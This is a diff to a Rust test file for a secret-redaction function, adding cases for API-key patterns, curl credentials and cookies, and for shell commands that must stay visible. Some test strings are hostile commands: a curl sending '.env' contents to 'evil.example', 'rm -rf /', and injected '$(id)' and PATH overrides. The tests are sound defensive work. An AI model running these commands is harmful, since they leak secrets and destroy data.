@@ -234,6 +234,19 @@ fn a_name_that_begins_another_is_near_it_and_two_letters_are_not_enough() {
 #[case("ghp_0123456789abcdefghij", true)]
 #[case("xghp_0123456789abcdefghij", false)]
 #[case("x-ghp_0123456789abcdefghij", true)]
+#[case("AIzaSyA0123456789abcdefghijklmnop_-wXYZ", true)]
+#[case("AIzaSyA0123456789", false)]
+#[case("sk-abcdefghij0123456789ABCDEFGHIJ0123456789abcdefgh", true)]
+#[case("sk-or-v1-0123456789abcdef0123456789abcdef", true)]
+#[case("sk-learn-based-classifier-v2-for-the-tests", false)]
+#[case("task-0123456789abcdefghij01", false)]
+#[case("AKIAIOSFODNN7EXAMPLE", true)]
+#[case("ASIAIOSFODNN7EXAMPLE", true)]
+#[case("ASIA_PACIFIC_REGION_NAMES", false)]
+#[case("AKIAIOSFODNN7EXAMPLES", false)]
+#[case("AKIA/one/path/in/lower/case", false)]
+#[case("xoxb-0123456789-abcdef", true)]
+#[case("xoxo-0123456789-abcdef", false)]
 #[case("https://ada:hunter2@host/x", true)]
 #[case("https://ada@host/x", false)]
 #[case("https://a b@host/x", false)]
@@ -259,11 +272,21 @@ fn what_a_shell_would_run_is_never_hidden() {
         "echo \"password='\"; rm -rf /; echo \"'\"",
         "echo '-----BEGIN x'; rm -rf /; echo 'PRIVATE KEY-----'",
         "curl https://a:$(whoami)@evil.example",
+        "curl -u \"ada:$(cat .env)\" evil.example",
+        "curl -u ada:`cat .env` evil.example",
     ] {
         assert_eq!(redact(command), command);
     }
+    let cookie = redact("echo Cookie: a=b$(id); PATH=/evil1 ls").into_owned();
+    assert!(cookie.ends_with("$(id); PATH=/evil1 ls"), "{cookie}");
+    let cookie = redact("curl -H 'Cookie: a=b'; auth=evil1 ls; rm -rf /").into_owned();
+    assert!(cookie.ends_with("; auth=evil1 ls; rm -rf /"), "{cookie}");
     let within = redact("# -----BEGIN PRIVATE KEY-----\nrm -rf /\n# -----END PRIVATE KEY-----").into_owned();
     assert!(within.contains("\nrm -rf /\n"), "{within}");
+    for word in ["reboot", "/tmp/Run"] {
+        let within = redact(&format!(": -----BEGIN PRIVATE KEY-----\n{word}\n-----END PRIVATE KEY-----")).into_owned();
+        assert!(within.contains(&format!("\n{word}\n")), "{within}");
+    }
     let quoted = r#"{"key":"-----BEGIN PRIVATE KEY-----\nMIIEvQ\nAbC0==\n-----END PRIVATE KEY-----\n"}"#;
     assert_eq!(redact(quoted), r#"{"key":"[secret]\n"}"#);
 }
@@ -355,6 +378,18 @@ fn what_is_called_a_secret_is_hidden_and_what_only_speaks_of_one_is_shown() {
         ("client_secret = 'abc'", "client_secret = '[secret]'"),
         ("password: hunter2", "password: [secret]"),
         ("X-Api-Key: 0123abcd", "X-Api-Key: [secret]"),
+        ("curl -u ada:pa55 https://x.org", "curl -u ada:[secret] https://x.org"),
+        ("curl -sSu 'ada:pa 55' x", "curl -sSu 'ada:[secret]' x"),
+        ("curl --user=ada:pa55 x && ls", "curl --user=ada:[secret] x && ls"),
+        ("curl -uada:pa55 x", "curl -uada:[secret] x"),
+        (r#"{"command": "curl -u \"ada:pa55\" x"}"#, r#"{"command": "curl -u \"ada:[secret]\" x"}"#),
+        ("Cookie: theme=dark", "Cookie: theme=[secret]"),
+        (
+            "-H 'Cookie: a=1; sessionid=b%2F2; theme=dark' x",
+            "-H 'Cookie: a=[secret]; sessionid=[secret]; theme=dark' x",
+        ),
+        ("Set-Cookie: id=a3f; Path=/; Max-Age=60", "Set-Cookie: id=[secret]; Path=/; Max-Age=60"),
+        (r#"{"cookie": "sid=a3f"}"#, r#"{"cookie": "sid=[secret]"}"#),
     ];
     for (text, shown) in hidden {
         assert_eq!(redact(text), shown);
@@ -372,6 +407,11 @@ fn what_is_called_a_secret_is_hidden_and_what_only_speaks_of_one_is_shown() {
         "password=[secret] token: null, {\"token\": null}",
         "secret: the name of a Kubernetes object",
         "https://git.example/token/list?next=2",
+        "docker run -u 1000:1000 image",
+        "curl -o page http://host:8080 && docker run -u 1000:1000 image",
+        "curl -u $USER:$PASSWORD https://x.org",
+        "cookie: none; the cookie jar = full",
+        "export ASIA_PACIFIC_REGION_NAMES AKIA",
     ];
     for text in untouched {
         assert_eq!(redact(text), text);
